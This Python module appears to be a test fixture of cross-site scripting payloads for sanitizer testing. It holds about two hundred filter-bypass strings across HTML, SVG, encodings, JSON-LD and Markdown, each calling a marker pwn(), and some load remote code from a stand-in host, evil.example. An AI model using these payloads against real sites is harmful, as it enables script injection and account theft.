"""Markup and addresses that run a script where they are let through, by kind. Each calls ``pwn()``."""

from __future__ import annotations

#: Kinds of payloads; each line is one; ⏎ stands for a line break.
PAYLOADS: dict[str, str] = {
    "script elements": """
<script>pwn()</script>
<SCRIPT>pwn()</SCRIPT>
<script⏎>pwn()</script⏎>
<script/x>pwn()</script>
<script type="text/javascript">pwn()//</script>
<script type=module>pwn()</script>
<script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,pwn()"></script>
<scr<script>ipt>pwn()</scr</script>ipt>
<<script>pwn()//<</script>
<script>pwn()</script
<script><!--⏎pwn()//--></script>
</title><script>pwn()</script>
</textarea><script>pwn()</script>
</style><script>pwn()</script>
</noscript><script>pwn()</script>
</pre></code><script>pwn()</script>
--><script>pwn()</script>
]]><script>pwn()</script>
"><script>pwn()</script>
'><script>pwn()</script>
`><script>pwn()</script>
</article></div></body><script>pwn()</script>
<svg><script>pwn()</script></svg>
<svg><script href="data:text/javascript,pwn()"></script></svg>
<svg><script>p&#119;n()</script></svg>
<math><script>pwn()</script></math>""",
    "event handlers": """
<img src=x onerror=pwn()>
<img src=x onerror="pwn()">
<img src='x' onerror='pwn()'//
<img src=x:x onerror=pwn()>
<img/src=x/onerror=pwn()>
<IMG SRC=x OnErRoR=pwn()>
<img\tsrc=x\tonerror\t=\tpwn()>
<img\x0csrc=x\x0conerror=pwn()>
<img src=x onerror=&#112;wn()>
<img src="x` `<script>pwn()</script>"` `>
<img src=`x`onerror=pwn()>
<img src=x onerror\x00=pwn()>
<image src=x onerror=pwn()>
<body onload=pwn()>
<body onpageshow=pwn()>
<svg onload=pwn()>
<svg/onload=pwn()>
<svg><g onload=pwn()></g></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>
<svg><set onbegin=pwn() attributeName=x></svg>
<video src=x onerror=pwn()></video>
<video><source onerror=pwn() src=x></video>
<audio src=x onerror=pwn()></audio>
<iframe onload=pwn()></iframe>
<object data=x onerror=pwn()></object>
<embed src=x onload=pwn()>
<input autofocus onfocus=pwn()>
<select autofocus onfocus=pwn()></select>
<textarea autofocus onfocus=pwn()></textarea>
<button autofocus onfocus=pwn()>x</button>
<a href=# autofocus onfocus=pwn() tabindex=0>x</a>
<div contenteditable autofocus onfocus=pwn() tabindex=1>x</div>
<details open ontoggle=pwn()><summary>x</summary></details>
<marquee onstart=pwn()>x</marquee>
<style onload=pwn()></style>
<link rel=stylesheet href=x onerror=pwn()>
<script src=x onerror=pwn()></script>
<div onpointerrawupdate=pwn() onmouseover=pwn() style="position:fixed;inset:0">x</div>
<p onanimationstart=pwn() style="animation:a 1s">x</p><style>@keyframes a{}</style>
<x onfocusin=pwn() tabindex=1 autofocus>x</x>
" onerror="pwn()" x="
' onerror='pwn()' x='
" onmouseover=pwn() autofocus onfocus=pwn() x="
"/onload=pwn()//
x onerror=pwn()
&quot; onerror=&quot;pwn()&quot;
&#34; onload=&#34;pwn()""",
    "javascript addresses": """
<a href="javascript:pwn()">x</a>
<a href="JaVaScRiPt:pwn()">x</a>
<a href=" javascript:pwn()">x</a>
<a href="\x01javascript:pwn()">x</a>
<a href="java\tscript:pwn()">x</a>
<a href="java&#10;script:pwn()">x</a>
<a href="java&Tab;script&colon;pwn()">x</a>
<a href="&#106;&#97;vascript:pwn()">x</a>
<a href="&#x6A&#x61vascript:pwn()">x</a>
<a href="&#0000106avascript:pwn()">x</a>
<a href="javascript&colon;pwn&lpar;&rpar;">x</a>
<a href="javascript://x.example/%0apwn()">x</a>
<a href="javascript:/*--></title></style></script>*/pwn()">x</a>
<a href="vbscript:pwn()">x</a>
<a href="feed:javascript:pwn()">x</a>
<a href="view-source:javascript:pwn()">x</a>
<a href="blob:javascript:pwn()">x</a>
<a href="jar:javascript:pwn()">x</a>
<a xlink:href="javascript:pwn()">x</a>
<svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg>
<math href="javascript:pwn()">x</math>
<form action="javascript:pwn()"><input type=submit autofocus></form>
<form><button formaction="javascript:pwn()">x</button></form>
<iframe src="javascript:pwn()"></iframe>
<iframe src="javascript:parent.pwn()"></iframe>
<embed src="javascript:pwn()">
<object data="javascript:pwn()"></object>
<img src="javascript:pwn()">
<area href="javascript:pwn()">
<base href="javascript:pwn()//"><a href="#">x</a>
javascript:pwn()
JAVASCRIPT:pwn()
java⏎script:pwn()
javascript:pwn()//https://x.example/
https://x.example/"onmouseover="pwn()
https://x.example/'onerror='pwn()
https://x.example/><script>pwn()</script>
https://x.example/) [x](javascript:pwn()
https://x.example/ "title" onerror=pwn()
//evil.example/x.js""",
    "data addresses": """
<a href="data:text/html,<script>opener.pwn()</script>">x</a>
<iframe src="data:text/html,<script>parent.pwn()</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4="></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn()'/>">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>">
<link rel=stylesheet href="data:text/css,@import'https://evil.example/x.css'">
data:text/html,<script>pwn()</script>
data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==""",
    "frames and redirects": """
<iframe srcdoc="<script>parent.pwn()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.pwn()&gt;"></iframe>
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=data:text/html,<script>pwn()</script>">
<base href="https://evil.example/">
<link rel=import href="https://evil.example/">
<link rel=preload as=script href="https://evil.example/x.js">
<portal src="https://evil.example/"></portal>
<frameset onload=pwn()><frame src="https://evil.example/"></frameset>
<object type="text/html" data="https://evil.example/"></object>
<form action="https://evil.example/"><input autofocus name=x></form>
<img srcset="https://evil.example/a.png 1x, x 2x" src=x onerror=pwn()>
<picture><source srcset="https://evil.example/b.png"><img src=x onerror=pwn()></picture>
<video poster="https://evil.example/p.png" src=x onerror=pwn()></video>""",
    "mutations": """
<noscript><p title="</noscript><img src=x onerror=pwn()>">
<svg></p><style><a id="</style><img src=x onerror=pwn()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>
<svg><style><img src=x onerror=pwn()></style></svg>
<svg><desc><style><img title="</style><img src=x onerror=pwn()>"></style></desc></svg>
<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=pwn()>
<template><script>pwn()</script></template><img src=x onerror=pwn()>
<template><s><template><s><img src=x onerror=pwn()>@shafigullin</s></template></s></template>
<select><template><img src=x onerror=pwn()></template></select>
<xmp><p title="</xmp><img src=x onerror=pwn()>">
<noembed><img title="</noembed><img src=x onerror=pwn()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=pwn()>"></noframes>
<textarea><img title="</textarea><img src=x onerror=pwn()>"></textarea>
<title><img title="</title><img src=x onerror=pwn()>"></title>
<plaintext><img src=x onerror=pwn()>
<table><td background="javascript:pwn()"><img src=x onerror=pwn()></table>
<ruby><rt><svg><style><a title="</style><img src=x onerror=pwn()>">
<p><svg><p><style><g title="</style><img src=x onerror=pwn()>">
<listing>&lt;img src=x onerror=pwn()&gt;</listing>
<a <!-- --><img src=x onerror=pwn()>
<![CDATA[<img src=x onerror=pwn()>]]>
<?xml version="1.0"?><img src=x onerror=pwn()>
<!--><img src=x onerror=pwn()>-->
<!--!><img src=x onerror=pwn()>-->
<!-- --!><img src=x onerror=pwn()>
<!----!><script>pwn()</script>
</br><img src=x onerror=pwn()>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>""",
    "styles": """
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/x)}</style>
<div style="background:url('javascript:pwn()')">x</div>
<div style="background:url(https://evil.example/x)">x</div>
<div style="width:expression(pwn())">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<style></style><img src=x onerror=pwn()>""",
    "entities and charsets": """
&lt;script&gt;pwn()&lt;/script&gt;
&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;
&#60;img src=x onerror=pwn()&#62;
&#x3C;img src=x onerror=pwn()&#x3E;
&LT;img src=x onerror=pwn()&GT;
\\u003cimg src=x onerror=pwn()\\u003e
\\x3cimg src=x onerror=pwn()\\x3e
%3Cimg src=x onerror=pwn()%3E
＜img src=x onerror=pwn()＞
‹img src=x onerror=pwn()›
+ADw-img src=x onerror=pwn()+AD4-
\u2028<img src=x onerror=pwn()>\u2029
<\u200bscript>pwn()</script><img src=x onerror=pwn()>
<img src=x onerror=pwn()\ufeff>
¼script¾pwn()¼/script¾
<img src=x oner\u0000ror=pwn() onerror=pwn()>""",
    "JSON-LD": """
</script><script>pwn()</script>
</script ><img src=x onerror=pwn()>
</SCRIPT><svg onload=pwn()>
<!--<script></script><script>pwn()</script>
<!-- <script
"}</script><script>pwn()</script>
\\"}</script><script>pwn()</script>
\u2028pwn()//
*/pwn()/*
';pwn();//
${pwn()}
{{constructor.constructor('pwn()')()}}""",
    "Markdown": """
[x](javascript:pwn())
[x](<javascript:pwn()>)
[x](java&#115;cript:pwn())
![x](javascript:pwn())
![x](x"onerror="pwn())
![x" onerror="pwn()](https://x.example/a.png)
<javascript:pwn()>
[x]: javascript:pwn()
[x](https://x.example/ "a" onmouseover=pwn() ")
```⏎<img src=x onerror=pwn()>⏎```
`<img src=x onerror=pwn()>`
~~~<img src=x onerror=pwn()>
> <img src=x onerror=pwn()>
    <img src=x onerror=pwn()>
<details/open/ontoggle=pwn()>
\\<img src=x onerror=pwn()>
\\\\<img src=x onerror=pwn()>
| <img src=x onerror=pwn()> | x |
# <img src=x onerror=pwn()>
1. <img src=x onerror=pwn()>
[<img src=x onerror=pwn()>](https://x.example/)
![<img src=x onerror=pwn()>](https://x.example/)""",
}


def payloads(kind: str | None = None) -> list[str]:
    """All payloads, or those of a kind."""
    kinds = PAYLOADS.values() if kind is None else (PAYLOADS[kind],)
    return [line.replace("⏎", "\n") for lines in kinds for line in lines.split("\n") if line]
